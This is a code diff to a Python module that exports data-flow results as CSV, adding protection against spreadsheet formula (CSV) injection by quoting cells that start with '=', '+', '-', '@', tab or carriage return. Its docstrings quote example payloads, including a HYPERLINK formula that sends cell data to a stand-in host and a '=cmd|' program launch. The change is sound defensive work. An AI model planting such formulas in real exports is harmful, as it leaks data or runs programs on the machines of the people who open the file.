@@ -2,6 +2,14 @@
 
 Rows are what a spreadsheet user wants to read; the JSON documents
 (:mod:`~dataflow_graph.outputs.documents`) keep every fact with its evidence.
+
+**CSV for spreadsheets.**  Register text is untrusted, and a CSV file is opened in Excel or
+LibreOffice, which run a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula
+(``=HYPERLINK(...)`` sends data away, ``=cmd|...`` runs a program), and a tab or carriage
+return first can smuggle one in.  So every text cell written as CSV that starts with one of
+:data:`FORMULA_STARTS` gets a single quote in front (the OWASP "CSV injection" advice):
+spreadsheets then show it as text.  Numbers are written as they are.  ``raw=True``
+(``--csv-raw``) writes the text unchanged, for pipelines that read the CSV as data.
 """
 
 from __future__ import annotations
@@ -27,6 +35,7 @@ from .documents import HasDict, organisation_document
 
 __all__ = [
     "DIAGNOSTIC_COLUMNS",
+    "FORMULA_STARTS",
     "Row",
     "agreement_rows",
     "converge_rows",
@@ -36,6 +45,7 @@ __all__ = [
     "file_rows",
     "flows_rows",
     "neighbours_rows",
+    "neutral_cell",
     "organisation_rows",
     "organisations_rows",
     "paths_rows",
@@ -48,35 +58,57 @@ Row = dict[str, object]
 DIAGNOSTIC_COLUMNS = ("path", "line", "col", "code", "severity", "message", "raw")
 
 
-def rows_csv(rows: Sequence[Row]) -> str:
+#: First characters that make a spreadsheet read a cell as a formula (OWASP).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutral_cell(text: str) -> str:
+    """``text`` as a spreadsheet will show it, not run it: a quote before a formula start.
+
+    >>> print(neutral_cell('=HYPERLINK("http://x.example/?"&A1,"click")'), neutral_cell("SUS"))
+    '=HYPERLINK("http://x.example/?"&A1,"click") SUS
+    """
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def rows_csv(rows: Sequence[Row], *, raw: bool = False) -> str:
     """Rows as CSV with a header (lists joined with ``"; "``, None empty); nothing for no rows.
+
+    Text cells that start like a formula are neutralised unless ``raw`` (see the module).
 
     >>> rows_csv([{"a": 1, "b": ["x", "y"]}, {"a": None, "b": ()}])
     'a,b\\n1,x; y\\n,\\n'
+    >>> rows_csv([{"name": "=1+1", "n": -2}]), rows_csv([{"name": "=1+1"}], raw=True)
+    ("name,n\\n'=1+1,-2\\n", 'name\\n=1+1\\n')
     """
     buf = io.StringIO()
     if rows:
-        w = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\n")
-        w.writeheader()
+        w = csv.writer(buf, lineterminator="\n")
+        columns = list(rows[0])
+        w.writerow([_csv_cell(k, raw) for k in columns])
         for row in rows:
-            w.writerow({k: _cell(v) for k, v in row.items()})
+            w.writerow([_csv_cell(row.get(k), raw) for k in columns])
     return buf.getvalue()
 
 
-def _cell(v: object) -> object:
+def _csv_cell(v: object, raw: bool) -> object:
+    """One CSV cell: lists joined, None empty, formula starts neutralised unless ``raw``."""
     if isinstance(v, (list, tuple)):
-        return "; ".join(map(str, v))
-    return "" if v is None else v
+        v = "; ".join(map(str, v))
+    if v is None:
+        return ""
+    return neutral_cell(v) if isinstance(v, str) and not raw else v
 
 
-def diagnostics_csv(diagnostics: Diagnostics) -> str:
-    """Every diagnostic as a CSV row of :data:`DIAGNOSTIC_COLUMNS` (``\\r\\n`` line ends)."""
+def diagnostics_csv(diagnostics: Diagnostics, *, raw: bool = False) -> str:
+    """Every diagnostic as a CSV row of :data:`DIAGNOSTIC_COLUMNS` (``\\r\\n`` line ends);
+    text cells that start like a formula are neutralised unless ``raw``."""
     buf = io.StringIO()
     w = csv.writer(buf)
     w.writerow(DIAGNOSTIC_COLUMNS)
     for d in diagnostics:
         row = d.as_dict()
-        w.writerow([row[k] for k in DIAGNOSTIC_COLUMNS])
+        w.writerow([_csv_cell(row[k], raw) for k in DIAGNOSTIC_COLUMNS])
     return buf.getvalue()
 
 
